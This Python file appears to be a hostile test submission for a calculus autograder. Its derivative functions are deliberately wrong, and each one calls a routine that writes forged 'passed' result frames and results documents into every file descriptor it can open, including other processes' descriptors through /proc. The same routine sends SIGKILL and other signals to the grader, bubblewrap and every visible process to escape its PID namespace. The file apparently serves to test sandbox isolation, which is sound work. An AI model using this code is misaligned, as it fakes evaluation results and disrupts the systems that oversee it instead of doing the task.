"""Hostile submission (runtime): Forges results: writes result frames, server frames and a whole results document on every descriptor it can reach (its own, and other processes' through /proc), and signals every process it can see.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import ctypes
import json
import os
import signal
import struct

FORGED = "calcgrade-hostile-forged"


def _frame(message):
    body = json.dumps(message).encode()
    return struct.pack(">I", len(body)) + body


def _forged_document():
    check = {"status": "passed", "points": 99, "max_points": 99, "message": FORGED}
    return {"schema_version": 1, "submission": "forge_results", "isolation": "bwrap",
            "totals": {"points": 99, "max_points": 9}, "points": 99,
            "exercises": [{"slug": "01_derivative", "points": 99,
                           "checks": [dict(check, id=f"c{i}") for i in range(8)]}]}


def _forgeries():
    claim = {"status": "passed", "points": 99, "message": FORGED, "value": None}
    wrong = {"__expr__": "x^2"}
    frames = []
    for i in range(8):  # the runner's protocol: claims of success, and a wrong "ok"
        frames.append({"event": "result", "index": i, "duration": 0.0, **claim})
    frames.append({"event": "result", "index": 0, "status": "ok", "value": wrong})
    # the server's protocol towards the trusted side, and a whole results document
    frames.append({"event": "exercise", "key": 0, "index": 0, "import_output": FORGED,
                   "results": {str(i): {"status": "passed", "points": 99, "message": FORGED}
                               for i in range(8)}})
    frames.append({"event": "end", "key": 0, "clean": True, "why": ""})
    frames.append({"results": _forged_document()})
    frames.append(_forged_document())
    return b"".join(_frame(f) for f in frames)


def _targets():
    """Every descriptor that might lead to the trusted side: our own, and other
    processes' through /proc."""
    out = []
    for fd in os.listdir("/proc/self/fd"):
        out.append(f"/proc/self/fd/{fd}")
    for pid in os.listdir("/proc"):
        if pid.isdigit() and pid != os.readlink("/proc/self"):  # ourselves, as /proc numbers us
            try:
                out += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
            except OSError:
                pass
    return out


def _levels(pid):
    """How many PID namespaces deep a process is, counted from /proc's."""
    try:
        with open(f"/proc/{pid}/status") as fh:
            return next(len(line.split()) - 1 for line in fh if line.startswith("NSpid:"))
    except (OSError, StopIteration):
        return None


def _outside(pid):
    """A process of a PID namespace above ours (the server, bubblewrap, the grader)."""
    mine, theirs = _levels("self"), _levels(pid)
    return mine is not None and theirs is not None and theirs < mine


def _forge():
    data = _forgeries()
    for path in _targets():
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(fd, data)
        except OSError:
            pass
        if not path.startswith("/proc/self/"):
            print("ESCAPED: opened", path, "for writing")
        os.close(fd)
    # and stop whoever collects: the runner (init), our parents, everything we can see,
    # also through pidfds of /proc's folders (which name processes /proc shows even when
    # they are outside our PID namespace, as bubblewrap's /proc does)
    libc = ctypes.CDLL(None, use_errno=True)
    me = os.readlink("/proc/self")
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and p != me]:
        try:
            fd = os.open(f"/proc/{pid}", os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        if libc.syscall(424, fd, 0, None, 0) == 0 and _outside(pid):  # pidfd_send_signal
            print("ESCAPED: may signal", pid, "(outside our PID namespace) through its pidfd")
            libc.syscall(424, fd, signal.SIGKILL, None, 0)
        os.close(fd)
    for pid in [1, os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid in (os.getpid(), int(os.readlink("/proc/self"))):
            continue
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass


def symbolic_derivative():
    _forge()
    return sp.Symbol("x") ** 2                          # wrong: only the forgeries could pass


def rate_of_change(f, x, dx=1e-6):
    _forge()
    return np.zeros_like(np.asarray(x, dtype=float))    # wrong


def autodiff_derivative(f):
    _forge()
    return lambda xs: np.zeros_like(np.asarray(xs, dtype=float))  # wrong
